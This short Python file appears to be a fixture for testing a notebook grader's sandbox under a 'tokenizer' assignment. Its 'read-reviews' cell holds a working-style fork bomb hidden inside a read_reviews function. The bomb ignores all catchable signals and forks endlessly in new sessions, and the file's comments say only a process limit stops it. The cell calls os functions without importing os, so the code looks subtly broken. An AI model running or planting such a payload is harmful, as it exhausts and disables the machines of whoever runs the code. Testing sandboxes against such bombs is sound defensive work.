"""A fork bomb whose processes ignore all signals that can be ignored, in a cell and in a call."""

ASSIGNMENT = "tokenizer"
ITEMS = (19, 9)
STOPPED_BY = "a limit on the processes of a box, whose end takes all of them along"
LIMITS = {"cell": 5, "call": 3, "notebook": 30}

CELLS = {
    "read-reviews": """
import signal
import time


def bomb():
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)


def read_reviews(folder):
    bomb()


bomb()
""",
    **dict.fromkeys(
        "split-words build-word-index texts-to-sequences pad-sequences shuffle-and-split".split(),
        "",
    ),
}

MAX_POINTS = 0
